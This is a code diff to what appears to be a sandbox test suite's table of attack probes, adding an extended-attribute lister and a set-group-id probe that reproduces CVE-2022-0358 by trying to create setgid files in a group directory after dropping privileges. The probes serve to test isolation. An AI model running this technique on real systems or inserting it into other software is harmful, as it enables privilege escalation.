@@ -51,6 +51,14 @@ static int attributes(int argc, char **argv) {
     return 0;
 }
 
+// list-attributes FILE: their names, a line each. The suite runs it on the host.
+static int list_attributes(int argc, char **argv) {
+    char names[4096];
+    ssize_t length = llistxattr(argv[argc - 1], names, sizeof names);
+    for (ssize_t at = 0; at < length; at += strlen(names + at) + 1) printf("%s\n", names + at);
+    return length < 0;
+}
+
 // overwrite: the programs of all processes that can be seen, their descriptors, and what is above them.
 static int overwrite(int argc, char **argv) {
     (void)argc, (void)argv;
@@ -86,6 +94,22 @@ static int above(int argc, char **argv) {
     return 0;
 }
 
+// set-group-id DIR: programs of a group that their maker is no member of (CVE-2022-0358).
+static int set_group_id(int argc, char **argv) {
+    if (argc < 2 || chdir(argv[1]) || mkdir("group", 0777) || chown("group", 0, 50) || chmod("group", 02777)) return 1;
+    if (syscall(SYS_setgroups, 0, NULL) || syscall(SYS_setgid, 1000) || syscall(SYS_setuid, 1000) || chdir("group")) return 1;
+    umask(0);
+    int fd = open("created", O_CREAT | O_EXCL | O_WRONLY | O_CLOEXEC, 02775);
+    note(fd >= 0, "create");
+    note(mknod("node", S_IFREG | 02775, 0) == 0, "mknod");
+    int unnamed = open(".", O_TMPFILE | O_WRONLY | O_CLOEXEC, 02775);
+    char path[64];
+    snprintf(path, sizeof path, "/proc/self/fd/%d", unnamed);
+    note(unnamed >= 0 && linkat(AT_FDCWD, path, AT_FDCWD, "unnamed", AT_SYMLINK_FOLLOW) == 0, "tmpfile");
+    note(chmod("created", 02775) == 0, "chmod");
+    return 0;
+}
+
 // connect SOCKET: says something to whoever listens there.
 static int connect_socket(int argc, char **argv) {
     struct sockaddr_un address = {.sun_family = AF_UNIX};
@@ -96,4 +120,4 @@ static int connect_socket(int argc, char **argv) {
     return 0;
 }
 
-const struct attack files_attacks[] = {{"handles", handles}, {"attributes", attributes}, {"overwrite", overwrite}, {"above", above}, {"connect", connect_socket}, {NULL, NULL}};
+const struct attack files_attacks[] = {{"handles", handles}, {"attributes", attributes}, {"list-attributes", list_attributes}, {"overwrite", overwrite}, {"above", above}, {"set-group-id", set_group_id}, {"connect", connect_socket}, {NULL, NULL}};
